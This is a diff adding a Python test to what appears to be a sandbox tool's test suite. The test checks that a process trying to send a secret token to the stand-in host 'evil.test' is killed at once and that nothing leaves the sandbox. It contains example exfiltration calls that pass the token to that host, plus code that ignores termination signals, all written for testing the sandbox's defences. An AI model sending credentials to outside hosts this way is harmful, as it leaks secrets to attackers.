@@ -102,6 +102,26 @@ say(ask("https://evil.test/", Authorization=bearer), ask("https://evil.test/?x="
         with open(log, encoding="utf-8") as f:
             self.assertIn("secret_violation", f.read())
 
+    def test_a_violation_ends_the_sandbox(self):
+        """At once, whatever its programs do, and with the cause; nothing has gone out."""
+        before = NET.counts()
+        done = run("--json", "--grace", "60", "--policy", self.policy(mode="terminate", on_violation="terminate"), "--", "/usr/bin/python3", "-c", PROLOGUE + """
+import signal, threading
+for s in signal.SIGTERM, signal.SIGINT, signal.SIGHUP:
+    signal.signal(s, signal.SIG_IGN)
+print("before", flush=True)
+threading.Thread(target=ask, args=["https://evil.test/"], kwargs={"X_Any": token}, daemon=True).start()
+while True:
+    signal.pause()
+""")
+        told = json.loads(done.stdout)
+        self.assertEqual((done.returncode, told["cause"], told["signal"], told["stdout"]), (137, "policy", "SIGKILL", "before\n"), told)
+        self.assertEqual(told["cause_text"], "secret KEY was to go where it may not")
+        self.assertEqual(NET.counts()["requests"], before["requests"])
+        # One that is allowed does not.
+        answers, _ = self.python("say(ask('https://api.good.test/', Authorization='Bearer ' + token))", mode="terminate", on_violation="terminate")
+        self.assertEqual(len(answers), 1)
+
     def test_narrowed_to_methods_and_paths(self):
         answers, came = self.python("""
 bearer = "Bearer " + token
